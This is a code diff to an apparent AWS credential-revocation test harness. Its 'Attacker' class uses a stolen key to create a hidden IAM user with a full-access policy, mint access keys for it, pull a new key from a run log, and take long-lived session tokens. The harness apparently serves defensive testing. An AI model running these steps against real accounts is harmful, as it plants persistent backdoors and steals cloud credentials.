@@ -21,6 +21,7 @@ from botocore.config import Config
 from botocore.exceptions import BotoCoreError, ClientError
 
 PLANTED_USER, ROLE = "svc-cache-sync", "ferry-deploy"
+LATER_USER = "svc-log-sync"  # made when somebody has left it the time
 REFUSALS = {
     "AccessDenied", "InvalidClientTokenId", "InvalidAccessKeyId", "SignatureDoesNotMatch", "ExpiredToken",
     "InvalidToken",
@@ -117,6 +118,19 @@ class Attacker:
             "sts:GetSessionToken", victim, lambda: sts.get_session_token(DurationSeconds=129600)))  # fmt: skip
         return acts
 
+    def comes_back(self) -> str:
+        """Use the key once more: a user that nobody knows of yet. Returns its name."""
+        iam = self.client("iam", self.loot["key"])
+        iam.create_user(UserName=LATER_USER)
+        iam.put_user_policy(UserName=LATER_USER, PolicyName="cache", PolicyDocument=_everything())
+        self._take("later-user", iam.create_access_key(UserName=LATER_USER))
+        return LATER_USER
+
+    def takes_again(self, run_url: str) -> None:
+        """Read a later log, and keep what it holds with a session of it."""
+        key = self.loot["new-key"] = self.read_log(run_url)
+        self._take("new-session", self.client("sts", key).get_session_token(DurationSeconds=129600))
+
     def _take(self, name: str, answer: Any) -> None:
         if answer and "AccessKey" in answer:
             self.loot[name] = Loot(answer["AccessKey"]["AccessKeyId"], answer["AccessKey"]["SecretAccessKey"])
@@ -127,10 +141,7 @@ class Attacker:
     def tries(self) -> list[dict[str, Any]]:
         """Try everything that was taken. ``refused`` is about a real call; GetCallerIdentity passes under a Deny."""
         found = []
-        for name in ("key", "second-key", "planted-user", "saved-session", "role-session"):
-            if name not in self.loot:
-                continue
-            loot = self.loot[name]
+        for name, loot in self.loot.items():
             identity = code_of(self.client("sts", loot).get_caller_identity)
             code = self.probe(loot)
             found.append({"name": name, "refused": code in REFUSALS, "code": code, "identity_code": identity})
